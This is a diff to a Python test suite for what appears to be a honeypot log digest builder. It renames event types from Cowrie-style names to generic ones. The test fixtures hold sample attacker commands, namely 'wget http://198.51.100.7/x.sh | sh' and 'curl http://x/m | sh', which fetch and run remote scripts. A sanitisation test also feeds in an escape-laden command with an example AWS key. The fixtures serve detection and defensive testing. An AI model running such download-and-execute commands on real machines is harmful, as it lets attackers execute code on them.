@@ -24,13 +24,13 @@ def test_digest_aggregates_the_window_only(mysql_engine: Engine) -> None:
     earlier = WINDOW_START - timedelta(hours=1)
     rows = [
         # An earlier window saw 198.51.100.1 already; another bucket's rows must not count.
-        log_row(BUCKET, earlier, "cowrie.login.failed", source_ip="198.51.100.1"),
-        log_row("rustbucket-b", at(5), "cowrie.login.failed", source_ip="203.0.113.99"),
+        log_row(BUCKET, earlier, "login_failed", source_ip="198.51.100.1"),
+        log_row("rustbucket-b", at(5), "login_failed", source_ip="203.0.113.99"),
         *[
             log_row(
                 BUCKET,
                 at(i),
-                "cowrie.login.failed",
+                "login_failed",
                 source_ip="198.51.100.1",
                 username="root",
                 password=f"pw{i % 3}",
@@ -40,7 +40,7 @@ def test_digest_aggregates_the_window_only(mysql_engine: Engine) -> None:
         log_row(
             BUCKET,
             at(10),
-            "cowrie.login.success",
+            "login_success",
             source_ip="198.51.100.2",
             username="admin",
             password="admin",
@@ -48,7 +48,7 @@ def test_digest_aggregates_the_window_only(mysql_engine: Engine) -> None:
         log_row(
             BUCKET,
             at(11),
-            "cowrie.command.input",
+            "command",
             source_ip="198.51.100.2",
             command="uname -a",
             session="s1",
@@ -56,7 +56,7 @@ def test_digest_aggregates_the_window_only(mysql_engine: Engine) -> None:
         log_row(
             BUCKET,
             at(12),
-            "cowrie.command.input",
+            "command",
             source_ip="198.51.100.2",
             command="wget http://198.51.100.7/x.sh | sh",
             session="s1",
@@ -64,16 +64,16 @@ def test_digest_aggregates_the_window_only(mysql_engine: Engine) -> None:
         log_row(
             BUCKET,
             at(13),
-            "cowrie.session.file_download",
+            "download",
             source_ip="198.51.100.2",
             url="http://198.51.100.7/x.sh",
             file_sha256="cd" * 32,
             session="s1",
         ),
-        log_row(BUCKET, at(14), "http.access", source_ip="198.51.100.3", url="/phpmyadmin/"),
+        log_row(BUCKET, at(14), "http_request", source_ip="198.51.100.3", url="/phpmyadmin/"),
         log_row(BUCKET, at(15), "unparsed", raw="garbage line"),
         # Exactly at the end: belongs to the next window.
-        log_row(BUCKET, WINDOW.end, "cowrie.login.failed", source_ip="198.51.100.50"),
+        log_row(BUCKET, WINDOW.end, "login_failed", source_ip="198.51.100.50"),
     ]
     insert_rows(mysql_engine, rows)
 
@@ -103,7 +103,7 @@ def test_digest_aggregates_the_window_only(mysql_engine: Engine) -> None:
         ("wget http://198.51.100.7/x.sh | sh", "download_and_execute"),
     ]
     sampled = [s["event_type"] for s in digest.samples]
-    assert sampled[:2] == ["cowrie.session.file_download", "cowrie.login.success"]
+    assert sampled[:2] == ["download", "login_success"]
     assert "unparsed" in sampled
 
 
@@ -114,7 +114,7 @@ def test_top_lists_say_how_many_more(mysql_engine: Engine) -> None:
             log_row(
                 BUCKET,
                 at(i % 200),
-                "cowrie.login.failed",
+                "login_failed",
                 source_ip=f"10.0.{i // 250}.{i % 250}",
                 username=f"user{i}",
             )
@@ -131,7 +131,7 @@ def test_hostile_values_are_cleaned_in_the_digest(mysql_engine: Engine) -> None:
     command = "echo AKIAIOSFODNN7EXAMPLE\x1b[31m > k; " + "A" * 2000
     insert_rows(
         mysql_engine,
-        [log_row(BUCKET, at(1), "cowrie.command.input", command=command, raw=command)],
+        [log_row(BUCKET, at(1), "command", command=command, raw=command)],
     )
     digest = DigestBuilder(mysql_engine).build(WINDOW, "192.0.2.10")
     rendered = digest.render()
@@ -144,11 +144,11 @@ def test_hostile_values_are_cleaned_in_the_digest(mysql_engine: Engine) -> None:
 def test_one_bad_command_among_many_is_flagged(mysql_engine: Engine) -> None:
     """The rules see every distinct command, not only the top N."""
     rows = [
-        log_row(BUCKET, at(i % 200), "cowrie.command.input", command=f"echo {i}")
+        log_row(BUCKET, at(i % 200), "command", command=f"echo {i}")
         for i in range(400)
         for _ in range(2)
     ]
-    rows.append(log_row(BUCKET, at(3), "cowrie.command.input", command="curl http://x/m | sh"))
+    rows.append(log_row(BUCKET, at(3), "command", command="curl http://x/m | sh"))
     insert_rows(mysql_engine, rows)
     digest = DigestBuilder(mysql_engine, top_n=5).build(WINDOW, "192.0.2.10")
     assert all(item["count"] == 2 for item in digest.commands.items)
